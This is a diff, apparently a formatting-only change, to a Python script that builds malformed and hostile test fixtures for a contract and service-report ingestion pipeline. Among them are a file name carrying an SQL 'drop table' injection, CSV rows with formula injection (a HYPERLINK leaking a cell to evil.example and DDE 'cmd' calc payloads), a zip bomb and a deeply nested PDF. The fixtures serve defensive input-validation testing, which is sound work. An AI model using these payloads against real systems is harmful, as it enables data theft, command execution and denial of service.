@@ -18,7 +18,7 @@ from pathlib import Path
 
 ROOT = Path(__file__).resolve().parents[2]
 SAMPLES = ROOT / "samples"
-ENGAGEMENT = "ito-infra-northwind"   # a real sample contract; its report metric names are known
+ENGAGEMENT = "ito-infra-northwind"  # a real sample contract; its report metric names are known
 R = f"reports/{ENGAGEMENT}"
 
 # inbox path -> (kind, expected status, words the reason must contain)
@@ -73,9 +73,11 @@ def _csv(rows: list[list[str]], header=HEADER) -> str:
 
 
 def _good_rows(month: str) -> list[list[str]]:
-    return [[month, "Server availability", "99.9%", "99.95%", "Met"],
-            [month, "P1 resolution time", "4", "3.5", "Met"],
-            [month, "First contact resolution", "75%", "78%", "Met"]]
+    return [
+        [month, "Server availability", "99.9%", "99.95%", "Met"],
+        [month, "P1 resolution time", "4", "3.5", "Met"],
+        [month, "First contact resolution", "75%", "78%", "Met"],
+    ]
 
 
 def _text_pdf(path: Path, pages: list[list[str]], font_size: float = 10, encrypt=None) -> None:
@@ -108,8 +110,14 @@ def main(out: Path) -> None:
     (c / "truncated.pdf").write_bytes(good[: len(good) // 3])
     broken = good.replace(b"startxref", b"startxref\n999999999\n%", 1)
     (c / "broken-xref.pdf").write_bytes(broken)
-    sample_text = [["MASTER SERVICES AGREEMENT", "This Agreement is made on 1 March 2025 between Acme Ltd.",
-                    '("Customer") and Widget Services Inc. ("Supplier").', "It is governed by the laws of England."]]
+    sample_text = [
+        [
+            "MASTER SERVICES AGREEMENT",
+            "This Agreement is made on 1 March 2025 between Acme Ltd.",
+            '("Customer") and Widget Services Inc. ("Supplier").',
+            "It is governed by the laws of England.",
+        ]
+    ]
     _text_pdf(c / "encrypted.pdf", sample_text, encrypt=StandardEncryption("open-sesame", "owner", strength=128))
     _text_pdf(c / "encrypted-empty-password.pdf", sample_text, encrypt=StandardEncryption("", "owner", strength=128))
     (c / "really-html.pdf").write_text("<!doctype html><html><body><h1>Contract</h1></body></html>\n")
@@ -122,10 +130,17 @@ def main(out: Path) -> None:
     (c / "deeply-nested.pdf").write_bytes(_nested_pdf(depth=50_000))
     shutil.copy(SAMPLES / "scanned" / "ito-infra-northwind-scanned.pdf", c / "scanned-image-only.pdf")
     _form_pdf(c / "form-no-text.pdf")
-    _text_pdf(c / "vertrag-deutsch.pdf", [[
-        "RAHMENVERTRAG UEBER IT-DIENSTLEISTUNGEN", "Dieser Vertrag wird am 1. Maerz 2025 geschlossen zwischen",
-        "der Muster GmbH (\"Auftraggeber\") und der Beispiel AG (\"Auftragnehmer\").",
-        "Der Vertrag unterliegt deutschem Recht. Die Laufzeit betraegt drei Jahre."]])
+    _text_pdf(
+        c / "vertrag-deutsch.pdf",
+        [
+            [
+                "RAHMENVERTRAG UEBER IT-DIENSTLEISTUNGEN",
+                "Dieser Vertrag wird am 1. Maerz 2025 geschlossen zwischen",
+                "der Muster GmbH (\"Auftraggeber\") und der Beispiel AG (\"Auftragnehmer\").",
+                "Der Vertrag unterliegt deutschem Recht. Die Laufzeit betraegt drei Jahre.",
+            ]
+        ],
+    )
     shutil.copy(contract, c / "northwind-copy.pdf")
     # a real contract under a hostile name
     shutil.copy(SAMPLES / "contracts" / "bpo-finance-ledgerline.pdf", c / 'acme"; drop table file_registry;--.pdf')
@@ -142,33 +157,56 @@ def main(out: Path) -> None:
     latin = _csv(_good_rows("2025-03")).replace("Met", "Erfüllt")
     (r / "latin1.csv").write_bytes(latin.encode("latin-1"))
     (r / "bom.csv").write_bytes(b"\xef\xbb\xbf" + _csv(_good_rows("2025-04")).encode())
-    (r / "formula-injection.csv").write_text(_csv(_good_rows("2025-05") + [
-        ["2025-05", '=HYPERLINK("http://evil.example/?"&A1,"click")', "99%", "99%", "Met"],
-        ["2025-05", "+cmd|' /C calc'!A0", "1", "1", "Met"],
-        ["2025-05", "@SUM(1+1)*cmd|' /C calc'!A0", "1", "1", "Met"],
-        ["2025-05", "Change success rate", "98%", "=1+1", "Met"]]))
+    (r / "formula-injection.csv").write_text(
+        _csv(
+            _good_rows("2025-05")
+            + [
+                ["2025-05", '=HYPERLINK("http://evil.example/?"&A1,"click")', "99%", "99%", "Met"],
+                ["2025-05", "+cmd|' /C calc'!A0", "1", "1", "Met"],
+                ["2025-05", "@SUM(1+1)*cmd|' /C calc'!A0", "1", "1", "Met"],
+                ["2025-05", "Change success rate", "98%", "=1+1", "Met"],
+            ]
+        )
+    )
     with (r / "two-million-rows.csv").open("w", newline="") as f:
         w = csv.writer(f)
         w.writerow(HEADER)
         row = ["2025-06", "Server availability", "99.9%", "99.95%", "Met"]
         for _ in range(2_000_000):
             w.writerow(row)
-    (r / "thousands-separators.csv").write_text(_csv([
-        ["2025-07", "Server availability", "99.9%", "99,95%", "Met"],         # decimal comma
-        ["2025-07", "P1 resolution time", "4", "1,234.5", "Missed"],          # 1,234.5 hours
-        ["2025-08", "P1 resolution time", "4", "1.234,5", "Missed"]]))        # the same, the other way
-    (r / "impossible-percentages.csv").write_text(_csv([
-        ["2025-08", "Server availability", "99.9%", "99.95%", "Met"],
-        ["2025-08", "First contact resolution", "75%", "-12%", "Missed"],
-        ["2025-08", "Change success rate", "98%", "250%", "Met"]]))
-    (r / "future-dates.csv").write_text(_csv(_good_rows("2025-09") + [
-        ["2029-11", "Server availability", "99.9%", "99.99%", "Met"]]))
-    (r / "undefined-metric.csv").write_text(_csv(_good_rows("2025-10") + [
-        ["2025-10", "Coffee machine uptime", "99%", "12%", "Missed"]]))
-    (r / "ragged.csv").write_text(_csv([
-        ["2025-11", "Server availability", "99.9%", "99.95%", "Met", "extra", "cells"],
-        ["2025-11", "P1 resolution time", "4"],
-        ["2025-11", 'First contact "resolution', "75%", "80%", "Met"]]))
+    (r / "thousands-separators.csv").write_text(
+        _csv(
+            [
+                ["2025-07", "Server availability", "99.9%", "99,95%", "Met"],  # decimal comma
+                ["2025-07", "P1 resolution time", "4", "1,234.5", "Missed"],  # 1,234.5 hours
+                ["2025-08", "P1 resolution time", "4", "1.234,5", "Missed"],
+            ]
+        )
+    )  # the same, the other way
+    (r / "impossible-percentages.csv").write_text(
+        _csv(
+            [
+                ["2025-08", "Server availability", "99.9%", "99.95%", "Met"],
+                ["2025-08", "First contact resolution", "75%", "-12%", "Missed"],
+                ["2025-08", "Change success rate", "98%", "250%", "Met"],
+            ]
+        )
+    )
+    (r / "future-dates.csv").write_text(
+        _csv(_good_rows("2025-09") + [["2029-11", "Server availability", "99.9%", "99.99%", "Met"]])
+    )
+    (r / "undefined-metric.csv").write_text(
+        _csv(_good_rows("2025-10") + [["2025-10", "Coffee machine uptime", "99%", "12%", "Missed"]])
+    )
+    (r / "ragged.csv").write_text(
+        _csv(
+            [
+                ["2025-11", "Server availability", "99.9%", "99.95%", "Met", "extra", "cells"],
+                ["2025-11", "P1 resolution time", "4"],
+                ["2025-11", 'First contact "resolution', "75%", "80%", "Met"],
+            ]
+        )
+    )
     (r / "truncated.json").write_text('{"vendor": "Northwind", "rows": [{"period": "2025-12", "kpi": "Server av')
     (r / "report.docx").write_bytes(b"PK\x03\x04 not really a docx")
     (r / "really-text.xlsx").write_text(_csv(_good_rows("2025-12")))
@@ -178,8 +216,11 @@ def main(out: Path) -> None:
 def _nested_pdf(depth: int) -> bytes:
     """A one-page PDF whose page dictionary carries an array nested `depth` levels deep."""
     nested = b"[" * depth + b"]" * depth
-    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Deep " + nested + b" >>"]
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Deep " + nested + b" >>",
+    ]
     out, offsets = bytearray(b"%PDF-1.4\n"), []
     for i, body in enumerate(objects, start=1):
         offsets.append(len(out))
@@ -214,8 +255,10 @@ def _zip_bomb(path: Path, uncompressed_mb: int) -> None:
             if item.filename != "xl/worksheets/sheet1.xml":
                 target.writestr(item, source.read(item))
         with target.open("xl/worksheets/sheet1.xml", "w") as sheet:
-            sheet.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
-                        b'spreadsheetml/2006/main"><sheetData>')
+            sheet.write(
+                b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
+                b'spreadsheetml/2006/main"><sheetData>'
+            )
             row = b'<row><c t="inlineStr"><is><t>2025-01</t></is></c><c t="inlineStr"><is><t>Server availability</t></is></c></row>'
             chunk = row * 10_000
             for _ in range(uncompressed_mb * 1024 * 1024 // len(chunk)):
@@ -240,7 +283,8 @@ def _formulas_xlsx(path: Path) -> None:
     sheet = parts["xl/worksheets/sheet1.xml"].decode()
     for empty in ("<v></v>", "<v />", "<v/>"):
         sheet = sheet.replace(f"<f>A1/0</f>{empty}", "<f>A1/0</f><v>#DIV/0!</v>").replace(
-            f"<f>SUM(40,40)</f>{empty}", "<f>SUM(40,40)</f><v>80</v>")
+            f"<f>SUM(40,40)</f>{empty}", "<f>SUM(40,40)</f><v>80</v>"
+        )
     sheet = sheet.replace('<c r="D3"><f>A1/0</f>', '<c r="D3" t="e"><f>A1/0</f>')
     parts["xl/worksheets/sheet1.xml"] = sheet.encode()
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
